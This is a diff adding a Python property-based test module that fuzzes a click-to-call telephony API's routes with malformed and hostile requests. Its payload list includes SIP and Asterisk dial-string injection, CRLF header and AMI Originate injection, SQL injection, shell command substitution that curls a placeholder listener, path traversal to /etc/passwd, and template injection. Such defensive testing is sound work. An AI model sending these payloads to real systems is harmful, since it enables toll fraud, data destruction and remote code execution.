@@ -1,0 +1,210 @@
+"""What strangers send: any field of any route, with texts that once broke into a telephone exchange."""
+
+import json
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from itertools import product
+from typing import Any
+from urllib.parse import quote
+
+from hypothesis import strategies as st
+
+from tests.live.engine import CALLER_ID
+
+BUSY = "919910073920"  # a row that ends a call at once, should one be placed
+CALL = {"agent_number": BUSY, "caller_id": CALLER_ID, "destination_number": BUSY}
+DAYS = {"start_call_date": "2023-06-13", "end_call_date": "2023-06-17", "record_count": "5", "offset": "1"}
+
+# Every parameter that the vendor's document names, by route, with a value that is taken.
+FIELDS: dict[tuple[str, str], dict[str, str]] = {
+    ("POST", "/api/click2call"): {**CALL, "recording_option": "off", "transcript": "off"},
+    ("POST", "/api/get_cdr_by_request_id"): {"request_id": "91da7c083f"},
+    ("POST", "/api/get_cdr_by_date"): DAYS,
+    ("GET", "/api/get_cdr_statistics"): {},
+    ("GET", "/api/get_live_call_statistics"): {},
+    ("GET", "/healthz"): {},
+    ("HEAD", "/healthz"): {},
+    ("GET", "/readyz"): {},
+    ("HEAD", "/readyz"): {},
+}
+# What no document names, but a careless server might take.
+TEMPTING = (
+    "endpoint",
+    "channel",
+    "variables",
+    "context",
+    "app",
+    "media",
+    "callerId",
+    "order_by",
+    "auth",
+    "otp",
+    "__proto__",
+)
+
+# ~HOST~ is an address and ~URL~ a folder that we listen on; ~SECRET~ is looked for in the log.
+TEXTS = (
+    "PJSIP/carrier/sip:100@~HOST~",
+    "PJSIP/100@carrier",
+    "sip:100@~HOST~",
+    f"{BUSY}@~HOST~",
+    f"{BUSY}/sip:100@~HOST~",
+    f"{BUSY}&PJSIP/carrier/sip:100@~HOST~",
+    "Local/s@canary/n",
+    f"{BUSY}&Local/s@canary/n",
+    f"{BUSY}@canary",
+    "s@canary",
+    "canary",
+    "101@carrier",
+    f"{BUSY}\n",
+    f"{BUSY}\r\nX-Evil: 1",
+    f"{BUSY}\r\n\r\nINVITE sip:100@~HOST~ SIP/2.0",
+    "\r\nAction: Originate\r\nChannel: Local/s@canary\r\n\r\n",
+    f"{BUSY}\x00",
+    f" {BUSY} ",
+    f"{BUSY},30,U(canary)",
+    f"{BUSY}|30|g",
+    "٩١٩٩١٠٠٧٣٩٢٠",
+    "９１９９１００７３９２０",
+    "91 99100 73920",
+    "+" + BUSY,
+    "00" + BUSY,
+    "101",
+    "112",
+    "9" * 300,
+    "A" * 300,
+    "' OR '1'='1",
+    "'; DROP TABLE cdrs; --",
+    "1; SELECT pg_sleep(5)",
+    "id DESC; --",
+    "(SELECT CASE WHEN (1=1) THEN id ELSE call_date END)",
+    "<speak><audio src='~URL~/ssml'/></speak>",
+    "<![CDATA[x]]>&xxe;",
+    "${SHELL(touch /tmp/legwork-shell)}",
+    "${CURL(~URL~/curl)}",
+    "${FILE(/etc/passwd)}",
+    "$(curl ~URL~/sh)",
+    "`curl ~URL~/sh`",
+    "sound:~URL~/a.wav",
+    "~URL~/webhook",
+    "http:\\\\~URL~",
+    "//~URL~",
+    "file:///etc/passwd",
+    "../../../../etc/passwd",
+    "..%2f..%2fetc%2fpasswd",
+    "{0.__class__.__mro__}",
+    "{{7*7}}",
+    "%s%n%x",
+    "=cmd|'/C calc'!A0",
+    "\x1b[2J\x9b31m\u202e",
+    "\ud800",
+    "\udcff",
+    "\ufeff\u2028",
+    "2023-06-31",
+    "9999-12-31",
+    "0000-00-00",
+    "-1",
+    "1e9",
+    "NaN",
+    "~SECRET~",
+    "",
+)
+ODD: st.SearchStrategy[Any] = st.sampled_from(
+    [None, True, False, 0, -1, 2**63, 10**40, 10**400, 1.5, 1e308, [], {}, [[]], {"$gt": ""}, [BUSY], {"number": BUSY}]
+)
+DEEP = st.recursive(ODD, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=2))
+TEXT = st.sampled_from(TEXTS) | st.builds("".join, st.lists(st.sampled_from(TEXTS), max_size=3)) | st.text(max_size=40)
+BODIES = st.sampled_from(
+    [
+        b"",
+        b"{",
+        b"[" * 20_000,
+        b"null",
+        b'"x"',
+        b"{}" * 2,
+        b"\xff\xfe{}",
+        b'{"a":1,"a":2}',
+        b'{"agent_number":"\\ud800"}',
+    ]
+)
+RAW_PATHS = st.sampled_from(
+    [b"/api/\xff\x1b[2J", b"/api/%00", b"/api/%0d%0aX:%20y", b"/api/../healthz", b"//~HOST~/api", b"*"]
+)
+HEADERS = st.sampled_from(
+    [
+        "X-Forwarded-For",
+        "Idempotency-Key",
+        "Content-Type",
+        "X-HTTP-Method-Override",
+        "Host",
+        "Content-Encoding",
+        "Range",
+    ]
+)
+
+
+@dataclass(frozen=True, slots=True)
+class Hostile:
+    """One request: account_1's own unless `headers` says otherwise."""
+
+    method: str
+    path: bytes
+    body: bytes
+    headers: dict[str, str] = field(default_factory=dict)
+
+    def over_http(self, *, own: dict[str, str], places: dict[str, str]) -> bytes:
+        """The request as it goes over the wire, with the places that the texts name."""
+        headers = {"Host": "x", **own, **self.headers, "Content-Length": str(len(self.placed(places)))}
+        lines = [f"{name}: {value}" for name, value in headers.items()]
+        head = "\r\n".join([*(_filled(line, places) for line in lines), "Connection: close", "", ""])
+        start = b"%s %s HTTP/1.1\r\n" % (self.method.encode(), _filled_raw(self.path, places))
+        return start + head.encode("utf-8", "surrogatepass") + self.placed(places)
+
+    def placed(self, places: dict[str, str]) -> bytes:
+        """The body with the places that the texts name."""
+        return _filled_raw(self.body, places)
+
+
+def _filled(text: str, places: dict[str, str]) -> str:
+    for name, place in places.items():
+        text = text.replace(name, place)
+    return text.replace("\r", " ").replace("\n", " ")  # another line would be another header, not this one
+
+
+def _filled_raw(raw: bytes, places: dict[str, str]) -> bytes:
+    for name, place in places.items():
+        raw = raw.replace(name.encode(), place.encode())
+    return raw
+
+
+def each_text_in_each_field() -> Iterator[Hostile]:
+    """Every text in every documented field, all else good: what a careless check of that field would let through."""
+    for (method, path), good in FIELDS.items():
+        for name, text in product(good, TEXTS):
+            yield Hostile(method, path.encode(), json.dumps(good | {name: text}).encode())
+
+
+@st.composite
+def requests(draw: st.DrawFn, routes: list[tuple[str, str]]) -> Hostile:
+    """A request to one of the routes with something wrong in it."""
+    method, path = draw(st.sampled_from(routes))
+    good = FIELDS[method, path]
+    names = st.sampled_from([*good, *TEMPTING])
+    spoilt = st.builds(lambda name, text: good.get(name, "") + text, names, TEXT)
+    body: dict[str, Any] = good | draw(st.dictionaries(names, TEXT | spoilt | DEEP, min_size=1, max_size=3))
+    raw = draw(BODIES) if draw(st.integers(0, 9)) == 0 else json.dumps(body).encode()
+    headers = draw(st.dictionaries(HEADERS, TEXT, max_size=1))
+    if draw(st.integers(0, 14)) == 0:
+        headers["auth"] = draw(TEXT)
+    elif draw(st.integers(0, 14)) == 0:
+        headers["account"] = draw(TEXT)
+    target = path.encode()
+    match draw(st.integers(0, 9)):
+        case 0:
+            target = draw(RAW_PATHS)
+        case 1:
+            target += (
+                b"?"
+                + "&".join(f"{name}={quote(str(value), errors='replace')}" for name, value in body.items()).encode()
+            )
+    return Hostile(method, target, raw, headers)
